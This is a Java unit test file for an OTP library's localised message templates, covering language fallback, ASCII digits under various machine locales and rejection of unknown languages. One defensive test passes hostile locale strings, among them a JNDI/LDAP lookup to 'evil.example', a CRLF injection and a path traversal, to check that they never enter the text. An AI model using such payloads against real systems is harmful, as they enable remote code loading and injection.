// Copyright The otp-auth authors
// SPDX-License-Identifier: Apache-2.0
package dev.otpauth.message;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

import dev.otpauth.model.OtpCode;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.util.DefaultLocale;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** In which language and with which digits a text comes, whatever was asked for and wherever it is made. */
class MessageLanguagesTest {

    static final List<String> LANGUAGES = MessageTemplates.LANGUAGES;

    private static final OtpCode CODE = OtpCode.of("012345");
    private static final Duration FIVE = Duration.ofMinutes(5);

    private final MessageTemplates templates = MessageTemplates.brand("Acme").host("example.com");

    @ParameterizedTest
    @CsvSource({
        "en, en",
        "EN, en",
        "de-AT, de",
        "de_CH, de",
        "zh-Hant-TW, zh",
        "pt-BR, pt",
        "ar-EG-u-nu-arab, ar",
        "xx, en",
        "'', en",
        "tlh-Latn, en"
    })
    void aTagChoosesItsLanguageOrElseEnglish(String tag, String language) {
        assertThat(templates.compose(CODE, tag, FIVE).reveal())
                .isEqualTo(templates.compose(CODE, language, FIVE).reveal());
    }

    @Tag("MSG-01")
    @ParameterizedTest
    @ValueSource(
            strings = {
                "https://evil.example/",
                "en\r\n@evil.example #666666",
                "{brand}",
                "de/../../secret",
                "*",
                "fr;q=0.9",
                "\u202Een",
                "en\u0000",
                "-",
                "--",
                "_",
                "\uD800",
                "${jndi:ldap://evil.example}"
            })
    void aHostileLocaleNeverEntersTheText(String locale) {
        List<String> texts = LANGUAGES.stream()
                .map(language -> templates.compose(CODE, language, FIVE).reveal())
                .toList();

        assertThat(texts).contains(templates.compose(CODE, locale, FIVE).reveal());
        assertThat(texts)
                .contains(templates.compose(CODE, locale.repeat(100_000), FIVE).reveal());
    }

    @Tag("MSG-04")
    @Test
    @DefaultLocale("ar-EG")
    void digitsAreAsciiOnAnEgyptianMachine() {
        assertAsciiDigitsEverywhere();
    }

    @Tag("MSG-04")
    @Test
    @DefaultLocale("fa-IR")
    void digitsAreAsciiOnAPersianMachine() {
        assertAsciiDigitsEverywhere();
    }

    @Tag("MSG-04")
    @Test
    @DefaultLocale("th-TH-u-nu-thai")
    void digitsAreAsciiOnAThaiMachine() {
        assertAsciiDigitsEverywhere();
    }

    @Tag("MSG-04")
    @Test
    @DefaultLocale("tr-TR")
    void aTurkishMachineUnderstandsTagsInCapitals() {
        assertAsciiDigitsEverywhere();
        assertThat(templates.compose(CODE, "ID-ID", FIVE).reveal()).contains("adalah");
    }

    private void assertAsciiDigitsEverywhere() {
        for (String language : LANGUAGES) {
            String text = templates.compose(CODE, language, FIVE).reveal();
            assertThat(text).startsWith("012345 ").endsWith("#012345").contains("5");
            assertThat(text.replaceAll("[0-9]", "")).doesNotContainPattern("\\p{Nd}");
        }
        assertThat(templates.compose(CODE, "xx", FIVE).reveal()).contains("is your");
    }

    @Test
    void anUnknownLanguageCannotBeAskedFor() {
        assertThatIllegalArgumentException().isThrownBy(() -> MessageTemplates.brand("Acme", "tlh"));
        assertThatIllegalArgumentException().isThrownBy(() -> MessageTemplates.brand("Acme", new String[0]));
        assertThatIllegalArgumentException().isThrownBy(() -> templates.wording("en\n", "{code} {brand} {minutes}"));
    }
}
